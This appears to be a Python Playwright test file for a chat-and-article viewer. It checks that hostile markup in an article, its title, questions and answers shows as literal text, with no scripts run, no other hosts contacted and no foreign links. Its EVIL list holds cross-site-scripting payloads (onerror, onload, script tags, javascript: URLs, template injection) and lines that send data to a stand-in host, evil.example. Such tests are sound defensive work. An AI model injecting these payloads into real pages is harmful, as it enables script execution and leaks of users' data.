"""An article, a title, questions and answers full of markup stay text: nothing runs, is fetched or is swallowed."""

from __future__ import annotations

from collections.abc import Collection, Iterator, Sequence

import pytest
from playwright.sync_api import Page, expect

from bot.answer import Answer, Citation, Kind, Turn
from bot.engine import Engine
from index.embedder import Embedder
from index.library import Library
from index.sources import read_text
from tests.browser.conftest import PATIENCE, Open, chromium, served, visit  # noqa: F401
from tests.browser.test_ask import ask, notes, outlined

pytestmark = pytest.mark.browser
expect.set_options(timeout=PATIENCE)

EVIL = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "</script><script>alert(3)</script>",
    "![picture](http://evil.example/leak?q=secret)",
    "[click](javascript:alert(4)) and [data](data:text/html,<script>alert(5)</script>)",
    '<form action="http://evil.example"><input name=q><button>Send</button></form>',
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/a.css>",
    "<iframe src=http://evil.example></iframe><svg onload=alert(6)>",
    "${alert(7)} `${alert(8)}` {{constructor.constructor('alert(9)')()}}",
    "$$x^2$$ and $60bn and \\(y\\)",
    "http://evil.example/auto and www.evil.example and mail@evil.example",
    "<http://evil.example/angle> and [ref]: http://evil.example/ref",
    "> quoted **bold** _soft_ ~~gone~~ `code` &lt;b&gt; &amp; # not a heading",
    "1. first - second + third | table | --- | * * *",
    "[1] and [\\[9\\]](#cite-9-9) are no citations of ours",
    "\u200b<b>zero\u200bwidth</b> \u200d**\u200bjoined\u200b**",
    "<details open ontoggle=alert(10)><summary>x</summary></details>",
    "```mermaid graph TD; A-->B ```",
]
TITLE = '<img src=x onerror=alert(11)> "A title" ${alert(12)}'
ORIGIN = "<b>origin</b> http://evil.example"


class Parrot(Engine):
    """Answers every question with the paragraph of its number, as each kind of answer in turn."""

    def ask(
        self, question: str, history: Sequence[Turn] = (), articles: Collection[str] | None = None, *_: object
    ) -> Answer:
        stored = self.library.articles()[0]
        kind = list(Kind)[len(history) % len(Kind)]
        units = self.library.sentences(stored.id)
        asked = next(n for n, evil in enumerate(EVIL) if evil in question)
        cited = [
            Citation(
                n, stored.id, stored.title, stored.origin, unit.start, unit.end, unit.text, 0.9, unit.start, unit.end,
                unit.start + 1 if kind is Kind.SPAN else None, unit.end - 1 if kind is Kind.SPAN else None, speaker=EVIL[asked],
            )
            for n, unit in enumerate((u for u in units if u.text in EVIL[asked]), 1)
        ]
        return Answer(question, kind is not Kind.NOT_STATED, kind, EVIL[asked], 0.9, tuple(cited))


@pytest.fixture(scope="module")
def evil_address(embedder: Embedder) -> Iterator[str]:
    with Library.temporary(embedder) as library:
        library.add(read_text("\n\n".join(EVIL), title=TITLE, origin=ORIGIN))
        with served(Parrot(library)) as url:
            yield url


@pytest.fixture
def page(visit: Open, evil_address: str) -> Page:  # noqa: F811
    """Fails at the end if the page asked another host, opened a dialog, or broke the content policy."""
    return visit(evil_address)


MARKUP = "img, script, iframe, form, style, link, input, details, svg, table, code, pre, .katex, .mermaid, b, del"
FOREIGN = f":is(#chat .md, #viewer .page) :is({MARKUP})"
# Our own links stay on the page; any other came out of a text.
DANGEROUS_LINKS = '#chat a:not([href^="#cite-"], [href^="#odds-"], [href^="#do-"], [href^="#flag-"])'


def test_the_article_is_shown_letter_by_letter(page: Page) -> None:
    shown = page.locator("#viewer .page .stretch > *")
    expect(shown).to_have_count(len(EVIL))
    assert [text.strip() for text in shown.all_text_contents()] == EVIL
    assert page.locator("#viewer h1").text_content() == TITLE
    assert page.locator("#viewer .origin").text_content() == f"{ORIGIN} · English"
    expect(page.locator(FOREIGN)).to_have_count(0)


def test_questions_and_answers_of_every_kind_are_shown_letter_by_letter(page: Page) -> None:
    for n, evil in enumerate(EVIL):
        note = ask(page, evil)
        expect(note.locator("a").first).to_be_visible()
        said = " ".join(note.text_content().split())
        assert " ".join(evil.split()) in said, (n, said)
        assert " ".join(page.get_by_test_id("user").nth(n).text_content().split()) == " ".join(evil.split())
    expect(notes(page)).to_have_count(len(EVIL))
    expect(page.locator(FOREIGN)).to_have_count(0)
    expect(page.locator(DANGEROUS_LINKS)).to_have_count(0)


def test_a_citation_in_hostile_text_still_leads_to_its_sentence(page: Page) -> None:
    note = ask(page, EVIL[0])
    note.get_by_role("link", name="[1]", exact=True).first.click()
    expect(outlined(page)).to_contain_text(EVIL[0])
    expect(page.locator("#viewer .says")).to_have_text(EVIL[0][1:-1])
